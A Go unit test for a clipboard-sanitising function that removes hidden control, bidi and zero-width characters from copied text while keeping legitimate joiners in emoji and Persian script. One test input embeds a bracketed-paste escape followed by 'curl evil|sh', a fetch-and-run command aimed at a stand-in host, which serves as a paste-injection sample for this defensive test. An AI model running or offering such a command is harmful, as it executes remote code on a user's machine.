package text_test

import (
	"testing"

	"korescope/ui/text"
)

func TestCopied(t *testing.T) {
	for _, c := range []struct {
		in, want string
		hidden   int
	}{
		{"plain words\n\tand a tab", "plain words\n\tand a tab", 0},
		{"order \x1b[201~\rcurl evil|sh\r\n\u202e\u200b", "order [201~curl evil|sh\n", 4},
		{"\x00\x07\u009b31m\ufeff", "31m", 4},
		{"\u061cabc\u2066d\u2069", "abcd", 3},
		{"👩\u200d👩\u200d👧 and می\u200cخواهم", "👩\u200d👩\u200d👧 and می\u200cخواهم", 0},
		{"pass\u200dword", "password", 1},
		{"bad \xff byte", "bad  byte", 1},
		{"日本語 e\u0301", "日本語 e\u0301", 0},
	} {
		if got, hidden := text.Copied(c.in); got != c.want || hidden != c.hidden {
			t.Errorf("%q: %q with %d left out, not %q with %d", c.in, got, hidden, c.want, c.hidden)
		}
	}
}
